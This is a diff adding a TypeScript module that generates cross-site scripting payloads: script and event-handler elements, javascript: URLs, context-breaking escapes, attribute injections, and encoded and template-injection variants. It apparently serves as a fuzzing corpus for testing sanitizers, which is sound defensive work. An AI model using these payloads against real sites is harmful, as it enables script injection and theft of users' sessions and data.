@@ -1,0 +1,95 @@
+/** A way of attack: what it would do as `run(id)`; `at` is an address nobody of ours asks. */
+export type PayloadShape = (run: string, at: string) => string;
+
+/** Elements that run something as soon as a browser makes them, or would take the page elsewhere. */
+export const elements: readonly PayloadShape[] = [
+  (run) => `<script>${run}</script>`,
+  (run) => `<img src=x onerror=${run}>`,
+  (run) => `<img/src="x"/onerror='${run}'>`,
+  (run) => `<svg onload=${run}></svg>`,
+  (run) => `<svg><script>${run}</script></svg>`,
+  (run) => `<svg><a xlink:href="javascript:${run}">a</a></svg>`,
+  (run) => `<svg><animate onbegin=${run} attributeName=x></svg>`,
+  (run) => `<svg><foreignObject><b onclick=${run}>a</b></foreignObject></svg>`,
+  (run) => `<math><a href="javascript:${run}">a</a></math>`,
+  (run) => `<video src=x onerror=${run}></video>`,
+  (run) => `<audio src=x onerror=${run}></audio>`,
+  (run) => `<video><source onerror=${run}></video>`,
+  (run) => `<iframe onload=${run}></iframe>`,
+  (run) => `<iframe src="javascript:${run}"></iframe>`,
+  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
+  (run) => `<object data="javascript:${run}"></object>`,
+  (run) => `<embed src="javascript:${run}">`,
+  (run) => `<input autofocus onfocus=${run}>`,
+  (run) => `<details open ontoggle=${run}>a</details>`,
+  (run) => `<marquee onstart=${run}>a</marquee>`,
+  (run) => `<a href="javascript:${run}">a</a>`,
+  (run) => `<a href="java\tscript:${run}">a</a>`,
+  (run) => `<a href="vbscript:${run}">a</a>`,
+  (run) => `<a href="data:text/html,<script>${run}</script>">a</a>`,
+  (run) => `<form action="javascript:${run}"><button>a</button></form>`,
+  (run) => `<form><button formaction="javascript:${run}">a</button></form>`,
+  (run) => `<b style="width:1px" onpointerover=${run}>a</b>`,
+  (run) => `<p onmouseover=${run} tabindex=0>a</p>`,
+  (run) => `<ScRiPt>${run}</sCrIpT>`,
+  (run) => `<IMG SRC=x ONERROR=${run}>`,
+  (_, at) => `<img src=${at}>`,
+  (_, at) => `<link rel=stylesheet href=${at}>`,
+  (_, at) => `<meta http-equiv=refresh content="9;url=${at}">`,
+  (_, at) => `<base target=a href=${at}>`,
+  (_, at) => `<b style="background:url(${at})">a</b>`,
+];
+
+/** What would end the place in which a text might have been put without care. */
+export const escapes: readonly string[] = [
+  "",
+  '">',
+  "'>",
+  "-->",
+  "]]>",
+  "</textarea>",
+  "</title>",
+  "</script>",
+];
+
+/** Attributes for a place inside a quoted attribute. */
+export const attributes: readonly PayloadShape[] = [
+  (run) => `" onmouseover=${run} a="`,
+  (run) => `' onmouseover=${run} a='`,
+  (run) => `" autofocus tabindex=0 onfocus=${run} a="`,
+  (run) => `' style='animation-name:a' onanimationstart=${run} a='`,
+  (run) => `"onclick="${run}`,
+  (run) => `'onclick='${run}`,
+];
+
+/** What harms where text is decoded once more, put into a script, a template, an address or another format. */
+export const elsewhere: readonly PayloadShape[] = [
+  (run) => `&lt;img src=x onerror=${run}&gt;`,
+  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
+  (run) => `%3Cscript%3E${run}%3C/script%3E`,
+  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  (run) => `\\x3cimg src=x onerror=${run}\\x3e`,
+  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
+  (run) => `';${run};//`,
+  (run) => `";${run};//`,
+  (run) => `\\';${run};//`,
+  (run) => `a\u2028;${run}\u2029a`,
+  (run) => "`${" + run + "}`",
+  (run) => "${" + run + "}",
+  (run) => `#{${run}}`,
+  (run) => `<%= ${run} %>`,
+  (run) => `{{constructor.constructor('${run}')()}}`,
+  (run) => `{a, select, other {<b>${run}</b>}}`,
+  (run) => `{"__html":"<img src=x onerror=${run}>"}`,
+  (run) => `{"$$typeof":"a","type":"script","props":{"children":"${run}"}}`,
+  (run) => `$L1:["$","script",null,{"children":"${run}"}]`,
+  (run) => `[a](javascript:${run})`,
+  (run) => `![a](x"onerror="${run})`,
+  (run) => `javascript:${run}`,
+  (run) => `vbscript:${run}`,
+  (run) => `data:text/html,${run}`,
+  (run) => `%%{init: {"securityLevel": "loose"}}%% click a call ${run}`,
+  (run) => `@import 'javascript:${run}';`,
+  (run) => `=HYPERLINK("javascript:${run}")`,
+  (run) => `\u202e${run}\u202c`,
+];
